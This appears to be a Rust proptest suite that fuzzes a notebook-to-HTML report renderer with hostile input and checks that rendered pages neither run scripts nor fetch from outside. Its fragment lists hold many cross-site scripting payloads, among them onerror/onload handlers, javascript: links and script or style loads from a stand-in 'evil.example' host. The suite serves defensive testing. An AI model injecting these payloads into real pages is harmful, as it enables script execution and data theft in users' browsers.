//! Hostile notebooks: what may stand on a page is read from the page itself. `PROPTEST_CASES=400000 cargo test --release
//! --features notebooks --test report hostile` makes that many pages and as many files.

use std::collections::HashSet;
use std::time::{Duration, Instant};

use proptest::prelude::*;

use super::*;

/// As many cases as the environment asks for, or enough for a few seconds.
fn config() -> ProptestConfig {
    let asked = std::env::var("PROPTEST_CASES").ok().and_then(|cases| cases.parse().ok());
    ProptestConfig::with_cases(asked.unwrap_or(3_000))
}

/// An input of some kilobytes takes milliseconds; this much is a hang.
const HANG: Duration = Duration::from_secs(10);

const MARKDOWN: &[&str] = &[
    "# ",
    "\n",
    "\n\n",
    " ",
    "    ",
    "\t",
    "> ",
    "- ",
    "1. ",
    "| ",
    "|",
    "|-|-|\n",
    "*",
    "**",
    "_",
    "`",
    "```",
    "```rust\n",
    "~~~\n",
    "[",
    "]",
    "(",
    ")",
    "![",
    "](x)",
    "](javascript:alert(1))",
    "](data:text/html,x)",
    "](//evil.example/a.png)",
    "<",
    ">",
    "[^1]",
    "[^1]: ",
    "[a]: javascript:x 'y'\n",
    "[a]",
    "- [x] ",
    "\\",
    "&lt;",
    "&#60;script&#62;",
    "&#xE000;0&#xE001;",
    "\u{e000}",
    "\u{e001}",
    "<https://evil.example>",
    "<javascript:x>",
    "---\n",
    "===\n",
    "{#id .c}",
    "~~",
    "é",
    "\u{0}",
    "\u{202e}",
    "\r",
    "x",
    "<!--",
    "-->",
    "$",
    "$$",
    "$x$",
    "\\$",
    "\\\\(",
    "\\\\)",
    "\\\\[",
    "\\\\]",
    "\\begin{align}",
    "\\end{align}",
    "\\begin{",
    "}",
    "{",
    "\\frac",
    "^",
    "\\left(",
    "\\right",
    "\\text{",
    "\\href{javascript:x}{y}",
    "\\href{https://a}{b}",
    "\\label{a}",
    "\\tag{\"<b>}",
    "\\eqref{a}",
    "&",
    "\\\\",
    "\\color{red}",
    "\\operatorname{<script>}",
    "%\n",
    "\\unicode{x3c}",
    "'",
    "\"",
    "5$ and 6$",
];

const HTML: &[&str] = &[
    "<script>",
    "</script>",
    "<script src=//evil.example/x.js>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/p.png'>",
    "<img src=\"",
    "<svg onload=alert(1)>",
    "<svg>",
    "</svg>",
    "<math>",
    "</math>",
    "<mtext>",
    "<mglyph>",
    "<style>",
    "</style>",
    "<style>@import 'https://evil.example'",
    "<title>",
    "</title>",
    "<textarea>",
    "<xmp>",
    "<noscript>",
    "<iframe src=//evil.example>",
    "<object data=//evil.example>",
    "<embed src=x>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example>",
    "<button formaction=javascript:x>",
    "<a href=javascript:alert(1)>",
    "<a href=' java\nscript:alert(1)'>",
    "<a href=\"&#106;avascript:x\">",
    "<a href=#x id=x>",
    "<a name=y>",
    "<use href='https://evil.example/s.svg#a'/>",
    "<use xlink:href='#a'/>",
    "<image href='//evil.example/p.png'/>",
    "<foreignObject>",
    "<annotation-xml encoding='text/html'>",
    "<animate attributeName=href values='javascript:x'/>",
    "<set attributeName=onclick to=x>",
    "<p style='background:url(//evil.example)'>",
    "<p style=\"background:u\\72l(//evil.example)\">",
    "<rect fill='url(//evil.example#a)'/>",
    "<rect fill=\"url(#a)\"/>",
    "<linearGradient id=a>",
    "<p style='fill:url(#a);color:red'>",
    "<table background=//evil.example>",
    "<video poster=//evil.example src=x>",
    "<source srcset=//evil.example>",
    "<div id=code-toggle>",
    "<div>",
    "</div>",
    "<p>",
    "</p>",
    "<b>",
    "</b>",
    "<i title=\"",
    "\">",
    "'>",
    "<table>",
    "<tr>",
    "<td>",
    "</table>",
    "<select>",
    "<option>",
    "<template>",
    "<plaintext>",
    "<![CDATA[",
    "]]>",
    "<!doctype html>",
    "<?xml ?>",
    "<a ",
    "a=b ",
    "on=x ",
    "/",
    "=",
    "<details open ontoggle=alert(1)>",
    "<pre>",
    "<code>",
    "</pre>",
    "<input autofocus onfocus=alert(1)>",
    "<frameset>",
    "<body onload=alert(1)>",
    "<desc>",
    "<font color=1>",
    "</a>",
];

const TEXTS: &[&str] = &[
    "\u{1b}[31m",
    "\u{1b}[K",
    "\u{1b}]0;t\u{7}",
    "\r",
    "\u{8}",
    "\n",
    "EVCXR_END_CONTENT",
    "()",
    ":dep x = \"1\"\n",
    "let a = r#\"",
    "\"#;",
    "/*",
    "#![a]",
    "'a",
    "1.5e",
    "\\u003c",
    "{\"a\":[1,{}]}",
    "[[[[",
    "\u{2028}",
    "{{",
    "}}",
    "{%",
];

fn spliced(kinds: &[&[&'static str]]) -> impl Strategy<Value = String> + use<> {
    let all = || prop::sample::select(kinds.concat());
    let piece = prop_oneof![
        12 => all().prop_map(str::to_owned),
        1 => (all(), 1..200_usize).prop_map(|(piece, times)| piece.repeat(times)),
        1 => "[a-z<>\"'$&;=/ ]{0,12}",
    ];
    prop::collection::vec(piece, 0..14).prop_map(|pieces| pieces.concat())
}

/// Where outputs come from: their kind and what they hold.
fn outputs() -> impl Strategy<Value = Value> {
    let kinds = [
        "text/html",
        "text/plain",
        "text/markdown",
        "text/latex",
        "image/svg+xml",
        "image/png",
        "application/json",
        "text/x-odd",
        "application/pdf",
        "\"><script>",
        "application/vnd.implicit-bias.verdict+json",
    ];
    let text = || spliced(&[MARKDOWN, HTML, HTML, TEXTS]);
    let bundle = prop::collection::vec((prop::sample::select(kinds.to_vec()), text()), 0..3).prop_map(|kinds| {
        let data: Value = kinds.into_iter().map(|(mime, text)| (mime.to_owned(), Value::from(text))).collect();
        json!({ "output_type": "display_data", "data": data, "metadata": {} })
    });
    // A page with a figure carries three megabytes of plotly.js.
    let figure = text().prop_map(|text| {
        let figure = json!({ "data": [{ "name": text }], "layout": { "title": { "text": text } } });
        let data = json!({ "application/vnd.plotly.v1+json": figure, "text/plain": text });
        json!({ "output_type": "execute_result", "execution_count": 1, "data": data, "metadata": {} })
    });
    prop_oneof![
        300 => bundle,
        100 => text().prop_map(|text| json!({ "output_type": "stream", "name": "stdout", "text": text })),
        50 => text().prop_map(|text| json!({ "output_type": "error", "ename": text, "evalue": text, "traceback": [text] })),
        50 => text().prop_map(|text| json!({ "output_type": text, "data": text })),
        1 => figure,
    ]
}

fn notebooks() -> impl Strategy<Value = Value> {
    let markdown = || spliced(&[MARKDOWN, MARKDOWN, HTML]);
    let cells = (
        markdown(),
        markdown(),
        spliced(&[TEXTS, HTML]),
        prop::collection::vec(outputs(), 0..3),
        spliced(&[HTML, TEXTS]),
    );
    cells.prop_map(|(first, second, source, outputs, odd)| {
        let mut cell =
            json!({ "cell_type": "code", "id": odd, "metadata": {}, "source": source, "execution_count": null });
        cell["outputs"] = outputs.into();
        let attachments = json!({ "x": { odd.clone(): odd } });
        let first =
            json!({ "cell_type": "markdown", "id": "a", "metadata": {}, "source": first, "attachments": attachments });
        let mut file = file(json!([first, cell, prose("a", &second)]));
        file["metadata"]["implicit_bias"] =
            json!({ "rustc": odd, "finished": odd, "faults": [{ "number": 1, "cell": odd, "message": odd }] });
        file
    })
}

struct Tag {
    name: String,
    attributes: Vec<(String, String)>,
    /// What stands between a script's tags.
    text: String,
}

/// The start tags of a page as HTML's own rules read them: quotes, comments, and elements whose content is text.
fn tags(html: &str) -> Vec<Tag> {
    let (mut tags, mut rest) = (Vec::new(), html);
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        if let Some(comment) = rest.strip_prefix("!--") {
            rest = comment.split_once("-->").map_or("", |(_, after)| after);
            continue;
        }
        if !rest.starts_with(|c: char| c.is_ascii_alphabetic()) {
            continue;
        }
        let mut tag = Tag { name: String::new(), attributes: Vec::new(), text: String::new() };
        let end = rest.find(|c: char| c.is_ascii_whitespace() || matches!(c, '/' | '>')).unwrap_or(rest.len());
        tag.name = rest[..end].to_ascii_lowercase();
        rest = &rest[end..];
        loop {
            rest = rest.trim_start_matches(|c: char| c.is_ascii_whitespace() || c == '/');
            if let Some(after) = rest.strip_prefix('>') {
                rest = after;
                break;
            }
            if rest.is_empty() {
                break;
            }
            let end = 1 + rest[rest.chars().next().unwrap().len_utf8()..]
                .find(|c: char| c.is_ascii_whitespace() || matches!(c, '/' | '>' | '='))
                .map_or(rest.len() - 1, |end| end + rest.chars().next().unwrap().len_utf8() - 1);
            let name = rest[..end].to_ascii_lowercase();
            rest = rest[end..].trim_start();
            let mut value = String::new();
            if let Some(after) = rest.strip_prefix('=') {
                let after = after.trim_start();
                let quote = after.chars().next().filter(|c| matches!(c, '"' | '\''));
                let (found, left) = match quote {
                    Some(quote) => after[1..].split_once(quote).unwrap_or((&after[1..], "")),
                    None => {
                        after.split_at(after.find(|c: char| c.is_ascii_whitespace() || c == '>').unwrap_or(after.len()))
                    }
                };
                (value, rest) = (decoded(found), left);
            }
            tag.attributes.push((name, value));
        }
        // SVG has a title of its own, which is no text to HTML.
        if matches!(tag.name.as_str(), "script" | "style") || tag.name == "title" && tags.len() < 10 {
            let end = rest.to_ascii_lowercase().find(&format!("</{}", tag.name)).unwrap_or(rest.len());
            tag.text = rest[..end].to_owned();
            rest = &rest[end..];
        }
        tags.push(tag);
    }
    tags
}

fn decoded(value: &str) -> String {
    let value = value.replace("&quot;", "\"").replace("&lt;", "<").replace("&gt;", ">").replace("&nbsp;", "\u{a0}");
    value.replace("&#39;", "'").replace("&#106;", "j").replace("&amp;", "&")
}

/// What is wrong with a page, by what is in it.
fn faults(html: &str) -> Vec<String> {
    let mut faults = Vec::new();
    let mut ids = HashSet::new();
    let policy = html.split("script-src 'nonce-").nth(1).and_then(|rest| rest.split('\'').next()).unwrap_or_default();
    if policy.len() != 16 || !html.contains("content=\"default-src 'none'; script-src 'nonce-") {
        faults.push("no policy".to_owned());
    }
    let count = |name: &str, most: usize, tags: &[Tag]| {
        let found = tags.iter().filter(|tag| tag.name == name).count();
        (found > most).then(|| format!("{found} <{name}>"))
    };
    let tags = tags(html);
    for (name, most) in [
        ("meta", 4),
        ("style", 1),
        ("button", 1),
        ("title", usize::MAX),
        ("iframe", 0),
        ("object", 0),
        ("embed", 0),
        ("base", 0),
        ("link", 0),
        ("form", 0),
        ("frameset", 0),
        ("template", 0),
        ("foreignobject", 0),
        ("animate", 0),
        ("set", 0),
        ("plaintext", 0),
        ("video", 0),
        ("source", 0),
        ("noscript", 1_000),
        ("body", 1),
        ("textarea", 0),
        ("select", 0),
    ] {
        faults.extend(count(name, most, &tags));
    }
    for tag in &tags {
        let value =
            |name: &str| tag.attributes.iter().find(|(other, _)| other == name).map(|(_, value)| value.as_str());
        if tag.name == "script" {
            let data = value("type") == Some("application/json") && !tag.text.contains('<');
            if !(data || value("nonce") == Some(policy)) || value("src").is_some() {
                faults.push(format!("a script: {:?}", tag.attributes));
            }
        }
        for (name, value) in &tag.attributes {
            let bare: String =
                value.chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect::<String>().to_lowercase();
            let scheme = bare
                .split_once(':')
                .map(|(scheme, _)| scheme)
                .filter(|s| s.chars().all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c)));
            let ok = match (tag.name.as_str(), name.as_str()) {
                (_, name) if name.starts_with("on") => false,
                ("a", "href") => !matches!(scheme, Some("javascript" | "vbscript" | "data" | "attachment")),
                ("img", _) if name == "src" => scheme == Some("data"),
                ("image", "href" | "xlink:href") => scheme == Some("data"),
                (_, "href" | "xlink:href") => bare.starts_with('#'),
                (
                    _,
                    "src" | "srcset" | "data" | "action" | "formaction" | "poster" | "background" | "ping" | "srcdoc"
                    | "values" | "to",
                ) => false,
                (_, "style" | "fill" | "stroke" | "clip-path" | "mask" | "marker-end") => {
                    !bare.contains('\\')
                        && bare.split("url(").skip(1).all(|url| url.trim_start_matches(['"', '\'']).starts_with('#'))
                        && !bare.contains("image")
                }
                (_, "id") => ids.insert(value.clone()),
                _ => true,
            };
            if !ok {
                faults.push(format!("<{} {name}={value:?}>", tag.name));
            }
        }
    }
    faults
}

#[test]
fn the_judge_of_pages_sees_what_is_wrong() {
    let good = render("n", &parse(json!([prose("a", "# x")])), Path::new(".")).unwrap().html;
    assert_eq!(faults(&good), [String::new(); 0]);
    for evil in [
        "<script>x</script>",
        "<img src=https://a>",
        "<i title='a' onclick=x>",
        "<i title=\"a\"onclick=x>",
        "<p style=\"background:url(//a)\">",
        "<a href=\"java\nscript:x\">",
        "<a href=&#106;avascript:x>",
        "<iframe>",
        "<use href='//a#b'>",
        "<script nonce=\"0\">",
        "<p id=q><p id=q>",
        "<link rel=x href=y>",
        "<rect fill=\"url('x.svg#a')\">",
        "<meta http-equiv=refresh>",
        "</script><script>x</script>",
        "<!-- --><svg/onload=x>",
    ] {
        let page = good.replacen("</main>", &format!("{evil}</main>"), 1);
        assert!(!faults(&page).is_empty(), "{evil}");
    }
}

proptest! {
    #![proptest_config(config())]

    #[test]
    fn no_page_acts_or_fetches(notebook in notebooks(), name in spliced(&[HTML])) {
        let start = Instant::now();
        let notebook = Notebook::parse(&notebook.to_string(), Path::new("n.ipynb")).unwrap();
        let report = render(&name, &notebook, Path::new("/nonexistent")).unwrap();
        prop_assert_eq!(faults(&report.html), Vec::<String>::new());
        prop_assert!(start.elapsed() < HANG, "{:?}", start.elapsed());
    }

    #[test]
    fn a_file_is_a_notebook_or_refused_in_words(
        notebook in notebooks(),
        cuts in prop::collection::vec((any::<prop::sample::Index>(), any::<prop::sample::Index>(), prop::sample::select(vec![
            "", "{", "}", "[", "]", "\"", ",", ":", "null", "1e999", "-", "NaN", "\\ud800", "\\u0000", "\u{feff}", "{\"a\":", "[[[[[[[[", "true", "\"id\":3,",
            "\"nbformat\":3,", "\"outputs\":{},", "\"source\":[1],", "\"cell_type\":\"raw\",", "\"metadata\":null,", "\u{0}",
        ])), 0..4),
        depth in prop_oneof![9 => Just(0_usize), 1 => 1..3_000_usize],
    ) {
        let start = Instant::now();
        let mut text = notebook.to_string();
        for (from, length, piece) in cuts {
            let from = text.floor_char_boundary(from.index(text.len() + 1));
            // Short cuts leave most of the file what it was.
            let end = text.floor_char_boundary((from + length.index(6)).min(text.len()));
            text.replace_range(from..end.max(from), piece);
        }
        if depth > 0 {
            text = text.replacen("\"metadata\":{}", &format!("\"metadata\":{{\"d\":{}{}}}", "[".repeat(depth), "]".repeat(depth)), 1);
        }
        match Notebook::parse(&text, Path::new("n.ipynb")) {
            Ok(read) => {
                let mut ids = HashSet::new();
                prop_assert!(read.cells.iter().all(|cell| !cell.id.is_empty() && ids.insert(&cell.id)));
                let written = read.to_json().unwrap();
                let again = Notebook::parse(&written, Path::new("n.ipynb")).unwrap();
                prop_assert_eq!(again.to_json().unwrap(), written);
            }
            Err(error) => prop_assert!(error.to_string().starts_with("n.ipynb, line "), "{}", error),
        }
        prop_assert!(start.elapsed() < HANG, "{:?}", start.elapsed());
    }
}
